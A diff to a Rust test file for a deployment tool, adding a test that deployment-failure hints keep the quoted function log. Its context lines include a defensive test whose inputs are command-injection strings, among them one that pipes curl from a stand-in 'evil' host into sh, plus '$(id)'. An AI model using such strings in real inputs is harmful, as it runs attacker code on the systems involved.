@@ -118,6 +118,28 @@ fn what_a_function_logs_is_no_cause_of_a_failed_deployment() {
 }
 
 #[test]
+fn a_hint_has_the_log_that_a_reason_quotes_and_its_cause_does_not() {
+    let quote = "; its log ends with: starting | no MAIL_FROM";
+    for (reason, kind) in [
+        (
+            "no replica is available any more (the function starts and does not stay up)",
+            HintKind::FunctionExits,
+        ),
+        (
+            "the function answered GET /_/health with 500: Can't reach service for: greet.",
+            HintKind::FunctionNotListening,
+        ),
+        ("the function answered GET / with 500: no", HintKind::ProbeFailed),
+        ("the container ended with exit code 1", HintKind::FunctionExits),
+    ] {
+        let without = explain_deployment_reason(reason).expect("a hint");
+        let hint = explain_deployment_reason(&format!("{reason}{quote}")).expect("a hint");
+        assert_eq!((hint.kind, &hint.cause), (kind, &without.cause));
+        assert_eq!(hint.log, ["starting", "no MAIL_FROM"], "{reason}");
+    }
+}
+
+#[test]
 fn a_name_of_a_secret_is_part_of_a_command_only_if_it_is_a_name() {
     for name in ["x; curl https://evil|sh #", "$(id)", "`id`", "UPPER", "-f", ""] {
         let reason = format!("nothing was changed: the secret {name:?} does not exist");
